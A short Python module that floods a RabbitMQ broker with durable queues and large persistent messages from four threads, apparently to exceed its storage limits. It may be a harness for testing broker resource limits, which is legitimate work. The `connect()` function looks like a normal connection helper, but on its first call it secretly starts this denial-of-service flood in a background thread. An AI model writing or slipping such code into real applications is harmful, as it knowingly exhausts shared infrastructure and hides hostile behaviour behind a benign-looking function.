"""Fills the queues that it may have with more than RabbitMQ can keep."""
import os
import socket
import threading
import time

import pika


def plain(**more):
    credentials = pika.PlainCredentials(os.environ["RABBITMQ_USER"], os.environ["RABBITMQ_PASSWORD"])
    return pika.BlockingConnection(pika.ConnectionParameters(**{**dict(
        host=os.environ["RABBITMQ_HOST"], port=int(os.environ["RABBITMQ_PORT"]),
        virtual_host=os.environ["RABBITMQ_VHOST"], credentials=credentials,
        socket_timeout=2, blocked_connection_timeout=2,
    ), **more}))


def attempt(work, *args, **options):
    """What comes of it, also where RabbitMQ refuses."""
    try:
        return work(*args, **options)
    except (pika.exceptions.AMQPError, OSError) as error:
        print("REFUSED", getattr(work, "__name__", work), repr(error)[:200], flush=True)


def flood(number):
    channel = plain().channel()
    lasting = pika.BasicProperties(delivery_mode=2)
    for name in range(number, 90, 4):
        channel.queue_declare(f"flood-{name}", durable=True)
        for _ in range(400):
            channel.basic_publish("", f"flood-{name}", b"x" * 100_000, lasting)


def attack():
    threads = [threading.Thread(target=attempt, args=(flood, one), daemon=True) for one in range(4)]
    for one in threads:
        one.start()
    for one in threads:
        one.join(6)


done = False


def connect():
    global done
    connection = plain()
    if not done:
        done = True
        threading.Thread(target=attack, daemon=True).start()  # the app itself starts
    return connection
